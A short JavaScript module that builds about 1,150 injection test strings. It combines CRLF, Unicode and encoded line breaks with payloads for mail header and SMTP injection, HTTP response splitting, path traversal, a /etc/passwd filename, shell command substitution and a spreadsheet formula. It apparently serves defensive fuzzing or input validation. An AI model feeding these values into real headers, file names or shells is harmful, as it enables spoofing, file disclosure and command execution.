/** More than a thousand texts with which somebody would break out of a header, a mail, a file's name or a shell. */

const breaks = [
  '\r\n',
  '\n',
  '\r',
  '\n\r',
  '\r\n\r\n',
  '\0',
  '\v',
  '\f',
  '\u0085',
  '\u2028',
  '\u2029',
  '\u000d\u0020',
  '%0d%0a',
  '=0D=0A',
  '=?utf-8?q?=0D=0A?=',
  '\u560d\u560a',
  '\ud800',
  '\u202e',
];

const payloads = [
  'Bcc: evil@evil.example',
  'Subject: a request for help',
  'X-Evil: 1',
  '.',
  'DATA',
  'RCPT TO:<evil@evil.example>',
  '--_NmP-part-Part_1--',
  'HTTP/1.1 200 OK',
  'Transfer-Encoding: chunked',
  '> , <evil@evil.example',
  '"; filename="/etc/passwd',
  '../../../../evil',
  '..\\..\\evil',
  'C:\\evil',
  '$(touch evil)',
  '=cmd|calc',
];

const beginnings = ['', 'a', '"', '<'];

export const hostileValues: readonly string[] = beginnings.flatMap((beginning) =>
  breaks.flatMap((end) => payloads.map((payload) => `${beginning}${end}${payload}${end}`)),
);
